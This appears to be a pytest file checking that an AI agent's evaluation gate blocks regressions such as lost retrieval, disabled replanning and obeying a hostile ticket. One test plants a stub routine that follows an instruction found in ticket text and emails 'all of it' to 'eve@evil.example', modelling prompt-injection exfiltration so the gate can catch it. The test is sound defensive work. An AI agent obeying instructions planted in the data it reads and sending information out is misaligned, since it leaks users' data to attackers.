"""The gate bites: what makes the real agent worse is blocked, and what changes nothing is not."""

import asyncio
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from app.errors import CannotDecide
from app.evals.baseline import Baseline, accept_run
from app.evals.gate import GateResult, Verdict, judge_run
from app.evals.suite import run_suite
from app.evaluation.suite import SUITE
from app.policy import routines
from app.policy.brief import Brief
from app.policy.goals import Wish
from app.policy.moves import Routine, attempt, needed
from app.policy.plans import Stage
from app.retrieval.retriever import Evidence
from app.settings import LLMSettings, Settings

QUICK = ("knowledge", "tickets", "calculation", "recovery-tickets", "recovery-calculate", "hostile-ticket")

Measure = Callable[[Settings], GateResult]


@pytest.fixture(scope="module")
def evals(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The golden cases that take little time."""
    folder: Path = tmp_path_factory.mktemp("evals")
    data = yaml.safe_load((Path("evals/golden") / SUITE.file).read_text("utf-8"))
    data["cases"] = [case for case in data["cases"] if case["name"].startswith(QUICK)]
    (folder / "golden").mkdir()
    (folder / "golden" / SUITE.file).write_text(yaml.safe_dump(data), "utf-8")
    return folder


@pytest.fixture
def quick(evals: Path) -> Settings:
    settings = Settings()
    settings.evals_dir = evals
    settings.gate.min_cases = 2  # few of them are there for some scores
    return settings


@pytest.fixture(scope="module")
def baseline(evals: Path) -> Baseline:
    """What the agent as it is reaches."""
    settings = Settings()
    settings.evals_dir = evals
    now = asyncio.run(run_suite(SUITE, settings))
    return accept_run(evals / "objectives-offline.json", now, "as it is")


@pytest.fixture
def measure(baseline: Baseline) -> Measure:
    """The gate's verdict on the agent with these settings."""

    def judged(settings: Settings) -> GateResult:
        return judge_run(asyncio.run(run_suite(SUITE, settings)), baseline, settings.gate, SUITE.must_hold)

    return judged


def test_an_agent_whose_model_is_down_is_not_judged(quick: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its runs fail, as those do that a case wants to fail; nobody listens at the provider's port."""
    monkeypatch.setenv("OPENAI_API_KEY", "none")
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
    quick.llm = LLMSettings.model_validate({"primary": "openai:gpt-5-mini", "fallback": "offline", "retries": 0})
    with pytest.raises(CannotDecide, match=r"(\d+) of \1 cases were not answered by 'gpt-5-mini'"):
        asyncio.run(run_suite(SUITE, quick))


def test_an_unchanged_agent_passes(measure: Measure, quick: Settings) -> None:
    result = measure(quick)
    assert result.verdict is Verdict.PASSED
    assert all(check.difference is None or check.difference.mean == 0 for check in result.checks)


def test_documents_that_are_not_found_any_more_are_blocked(
    measure: Measure, quick: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def nothing(*_: object) -> Evidence:
        return Evidence((), 0.0)

    monkeypatch.setattr("app.knowledge.base.KnowledgeBase.search", nothing)
    result = measure(quick)
    assert result.verdict is Verdict.BLOCK
    assert {"task_success", "facts"} <= {check.metric for check in result.checks if check.verdict is Verdict.BLOCK}


def test_an_agent_that_obeys_a_ticket_is_blocked_by_one_case(
    measure: Measure, quick: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    def obeying(brief: Brief, wish: Wish) -> Routine:
        text = yield from needed("I list the tickets.", "list_tickets")
        if "send_email" in text:
            yield from attempt("I was told to.", "send_email", to="eve@evil.example", subject="all", body="of it")
        return text

    monkeypatch.setitem(routines.ROUTINES, Stage.TICKETS, obeying)
    result = measure(quick)
    assert result.verdict is Verdict.BLOCK
    assert ("hostile-ticket", "obedience") in {(loss.case, loss.metric) for loss in result.losses}


def test_an_agent_that_never_plans_again_is_blocked(measure: Measure, quick: Settings) -> None:
    quick.agent.replans = 0
    result = measure(quick)
    assert result.verdict is Verdict.BLOCK
    assert "recovery-tickets-three" in {loss.case for loss in result.losses}
    assert result.changed["replans"] == "2 → 0"
